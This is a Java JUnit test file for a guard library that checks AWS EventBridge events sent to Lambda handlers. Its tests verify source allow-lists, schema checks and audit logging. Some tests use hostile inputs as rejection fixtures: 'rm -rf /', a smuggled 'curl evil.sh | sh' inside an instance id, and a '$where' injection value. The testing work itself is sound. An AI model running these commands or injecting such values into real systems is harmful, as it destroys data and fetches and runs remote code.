package dev.fnguard.lambda;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.fnguard.AuditEvent;
import dev.fnguard.GuardOptions;
import dev.fnguard.Guarded;
import dev.fnguard.Sources;
import dev.fnguard.internal.SourceCheck;
import jakarta.validation.constraints.NotNull;
import jakarta.validation.constraints.Pattern;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** EventBridge events through {@link GuardedEventBridgeHandler}, from AWS's samples. */
class GuardedEventBridgeHandlerTest {

    /** The detail of AWS's sample EC2 state-change event. */
    record InstanceState(@NotNull @Pattern(regexp = "^i-[0-9a-f]{8,17}$") String instance_id,
            @NotNull @Pattern(regexp = "^(pending|running|stopping|stopped|shutting-down|terminated)$") String state) {
    }

    /** A schedule's detail: nothing. */
    record Tick() {
    }

    @Guarded(sources = @Sources(allowed = "events:aws.ec2", eventDetailTypes = "EC2 Instance State-change *"))
    static final class Instances extends GuardedEventBridgeHandler<InstanceState> {
        final List<InstanceState> received = new ArrayList<>();
        final List<Map<String, String>> contexts = new ArrayList<>();
        boolean fail;

        Instances(GuardOptions options) {
            super(options);
        }

        @Override
        protected void handle(InstanceState detail, RecordContext context) {
            if (fail) {
                throw new IllegalStateException("boom");
            }
            received.add(detail);
            contexts.add(context.attributes());
        }
    }

    @Guarded(sources = @Sources(allowed = "events:aws.events", eventDetailTypes = "Scheduled Event"))
    static final class Nightly extends GuardedEventBridgeHandler<Void> {
        final List<String> runs = new ArrayList<>();

        Nightly(GuardOptions options) {
            super(options);
        }

        @Override
        protected void handle(Void detail, RecordContext context) {
            assertNull(detail);
            runs.add(context.attribute("resources").orElseThrow());
        }
    }

    @Guarded(sources = @Sources(allowed = "events:aws.events", eventDetailTypes = "Scheduled Event"))
    static final class Ticks extends GuardedEventBridgeHandler<Tick> {
        final List<Tick> ticks = new ArrayList<>();

        Ticks(GuardOptions options) {
            super(options);
        }

        @Override
        protected void handle(Tick detail, RecordContext context) {
            ticks.add(detail);
        }
    }

    private final List<AuditEvent> audit = new ArrayList<>();
    private final GuardOptions options = GuardOptions.builder().environment(Map.of()).auditSink(audit::add).build();
    private final Instances instances = new Instances(options);

    static ObjectNode load(String name) {
        try (InputStream in = GuardedEventBridgeHandlerTest.class.getResourceAsStream("/aws-events/" + name)) {
            return (ObjectNode) Events.MAPPER.readTree(in);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private List<AuditEvent> run(com.amazonaws.services.lambda.runtime.RequestStreamHandler h, byte[] event)
            throws IOException {
        int before = audit.size();
        h.handleRequest(new ByteArrayInputStream(event), new ByteArrayOutputStream(), new TestContext("req-eb"));
        List<AuditEvent> events = new ArrayList<>(audit.subList(before, audit.size()));
        assertEquals(1, SnsKit.terminal(events).size(), "exactly one terminal audit event");
        return events;
    }

    private List<AuditEvent> run(com.amazonaws.services.lambda.runtime.RequestStreamHandler h, ObjectNode event)
            throws IOException {
        return run(h, Events.MAPPER.writeValueAsBytes(event));
    }

    private static ObjectNode detail(ObjectNode event) {
        return (ObjectNode) event.get("detail");
    }

    @Test
    void deliversAwsSampleEventWithItsEnvelopeAsAttributes() throws IOException {
        List<AuditEvent> events = run(instances, load("eventBridgeEvent.json"));

        assertEquals(List.of(new InstanceState("i-1234567890abcdef0", "terminated")), instances.received);
        Map<String, String> a = instances.contexts.get(0);
        assertEquals("6a7e8feb-b491-4cf7-a9f1-bf3703467718", a.get("id"));
        assertEquals("aws.ec2", a.get("source"));
        assertEquals("EC2 Instance State-change Notification", a.get("detail-type"));
        assertEquals("111122223333", a.get("account"));
        assertEquals("111122223333", a.get(SourceCheck.ATTR_ACCOUNT));
        assertEquals("us-west-1", a.get("region"));
        assertEquals("us-west-1", a.get(SourceCheck.ATTR_REGION));
        assertEquals("2017-12-22T18:43:48Z", a.get("time"));
        assertEquals("arn:aws:ec2:us-west-1:123456789012:instance/i-1234567890abcdef0", a.get("resources"));
        assertEquals("replay_archive", a.get("replay-name"));
        assertEquals("ok", events.get(0).outcome().wireName());
        assertEquals("EVENT", events.get(0).source().kind().name());
        assertEquals("events:aws.ec2", events.get(0).source().identity().orElseThrow());
    }

    @Test
    void runsAScheduleWithVoidDetail() throws IOException {
        Nightly nightly = new Nightly(options);

        List<AuditEvent> events = run(nightly, load("cloudwatch_event.json"));

        assertEquals(List.of("arn:aws:events:eu-central-1:123456789012:rule/demoschedule"), nightly.runs);
        assertEquals("SCHEDULE", events.get(0).source().kind().name());
        assertEquals("ok", events.get(0).outcome().wireName());
    }

    @Test
    void runsAScheduleWithAnEmptyRecordDetail() throws IOException {
        Ticks ticks = new Ticks(options);

        run(ticks, load("cloudwatch_event.json"));

        assertEquals(List.of(new Tick()), ticks.ticks);
    }

    @Test
    void refusesAScheduleWhoseDetailCarriesFieldsTheEmptyTypeDoesNotDeclare() throws IOException {
        Ticks ticks = new Ticks(options);
        ObjectNode event = load("cloudwatch_event.json");
        detail(event).put("command", "rm -rf /");

        assertEquals(Map.of("fae0433b-7a0e-e383-7849-7e10153eaa47", "UNKNOWN_FIELD"), SnsKit.denied(run(ticks, event)));
        assertEquals(List.of(), ticks.ticks);
    }

    @Test
    void dropsAndAuditsAnEventFromAForgedSource() throws IOException {
        ObjectNode event = load("eventBridgeEvent.json");
        event.put("source", "com.attacker.ec2");

        List<AuditEvent> events = run(instances, event);

        assertEquals(Map.of("6a7e8feb-b491-4cf7-a9f1-bf3703467718", "SOURCE"), SnsKit.denied(events));
        assertEquals("skipped", SnsKit.terminal(events).get(0).outcome().wireName());
        assertEquals(List.of(), instances.received);
    }

    @Test
    void dropsAndAuditsAnEventOfAnUndeclaredDetailType() throws IOException {
        ObjectNode event = load("eventBridgeEvent.json");
        event.put("detail-type", "EC2 Spot Instance Interruption Warning");

        assertEquals(Map.of("6a7e8feb-b491-4cf7-a9f1-bf3703467718", "SOURCE"), SnsKit.denied(run(instances, event)));
    }

    @Test
    void refusesAForgedScheduleSentToAScheduledHandlerFromAnotherSource() throws IOException {
        Nightly nightly = new Nightly(options);
        ObjectNode event = load("cloudwatch_event.json");
        event.put("source", "aws.events.evil");

        assertEquals(Map.of("fae0433b-7a0e-e383-7849-7e10153eaa47", "SOURCE"), SnsKit.denied(run(nightly, event)));
        assertEquals(List.of(), nightly.runs);
    }

    @Test
    void refusesAScheduleEventSentToTheInstancesHandler() throws IOException {
        assertEquals(Map.of("fae0433b-7a0e-e383-7849-7e10153eaa47", "SOURCE"),
                SnsKit.denied(run(instances, load("cloudwatch_event.json"))));
    }

    @Test
    void deniesDetailsThatBreakTheSchema() throws IOException {
        ObjectNode badId = load("eventBridgeEvent.json");
        detail(badId).put("instance_id", "i-123; curl evil.sh | sh");
        ObjectNode extra = load("eventBridgeEvent.json");
        detail(extra).put("$where", "sleep(1000)");
        ObjectNode type = load("eventBridgeEvent.json");
        detail(type).put("state", 7);
        ObjectNode notObject = load("eventBridgeEvent.json");
        notObject.put("detail", "{\"instance_id\": \"i-1234567890abcdef0\"}");

        assertEquals("CONSTRAINT", String.join(",", SnsKit.denied(run(instances, badId)).values()));
        assertEquals("UNKNOWN_FIELD", String.join(",", SnsKit.denied(run(instances, extra)).values()));
        assertEquals("TYPE", String.join(",", SnsKit.denied(run(instances, type)).values()));
        assertEquals("TYPE", String.join(",", SnsKit.denied(run(instances, notObject)).values()));
        assertEquals(List.of(), instances.received);
    }

    @Test
    void refusesDuplicateKeysInTheEnvelopeOrTheDetail() throws IOException {
        String sample = Events.MAPPER.writeValueAsString(load("eventBridgeEvent.json"));
        String twoSources = sample.replace("\"source\":\"aws.ec2\"", "\"source\":\"aws.ec2\",\"source\":\"com.evil\"");
        String twoStates = sample.replace("\"state\":\"terminated\"", "\"state\":\"terminated\",\"state\":\"running\"");

        for (String event : List.of(twoSources, twoStates)) {
            List<AuditEvent> events = run(instances, event.getBytes(StandardCharsets.UTF_8));
            assertEquals(List.of("MALFORMED"), events.get(events.size() - 1).reasons());
        }
        assertEquals(List.of(), instances.received);
    }

    @Test
    void refusesAnEventThatIsNotEventBridge() throws IOException {
        List<AuditEvent> events = run(instances, Events.MAPPER.writeValueAsBytes(SnsKit.sample()));

        assertEquals(1, events.size());
        assertEquals(List.of("MALFORMED"), events.get(0).reasons());
    }

    @Test
    void keepsTheDetailBytesExactlyAsSent() throws IOException {
        byte[] event = ("{\"version\":\"0\",\"id\":\"e-1\",\"detail-type\":\"EC2 Instance State-change Notification\","
                + "\"source\":\"aws.ec2\",\"account\":\"111122223333\",\"time\":\"2017-12-22T18:43:48Z\","
                + "\"region\":\"us-west-1\",\"resources\":[],\"detail\": { \"instance_id\" : \"i-0123456789abcdef0\" ,"
                + " \"state\" : \"running\" } }").getBytes(StandardCharsets.UTF_8);

        List<AuditEvent> events = run(instances, event);

        assertEquals(List.of(new InstanceState("i-0123456789abcdef0", "running")), instances.received);
        assertEquals("{ \"instance_id\" : \"i-0123456789abcdef0\" , \"state\" : \"running\" }".length(),
                events.get(0).payloadBytes());
    }

    @Test
    void failsTheInvocationWhenUserCodeThrowsSoLambdaRetriesIt() {
        instances.fail = true;

        RuntimeException thrown = assertThrows(RuntimeException.class,
                () -> instances.handleRequest(new ByteArrayInputStream(
                        Events.MAPPER.writeValueAsBytes(load("eventBridgeEvent.json"))), new ByteArrayOutputStream(),
                        new TestContext("req-eb")));

        assertTrue(thrown.getMessage().contains("1 record(s)"));
        assertEquals(2, audit.size());
        assertEquals("error", audit.get(0).outcome().wireName());
        assertEquals("error", audit.get(1).outcome().wireName());
    }

    @Test
    void takesTheSourceAllowListFromTheEnvironment() throws IOException {
        Instances env = new Instances(GuardOptions.builder()
                .environment(Map.of("FNGUARD_ALLOWED_SOURCES", "events:com.example.*")).auditSink(audit::add).build());

        assertEquals(Map.of("6a7e8feb-b491-4cf7-a9f1-bf3703467718", "SOURCE"),
                SnsKit.denied(run(env, load("eventBridgeEvent.json"))));
        ObjectNode custom = load("eventBridgeEvent.json");
        custom.put("source", "com.example.fleet");
        assertEquals(Map.of(), SnsKit.denied(run(env, custom)));
    }
}
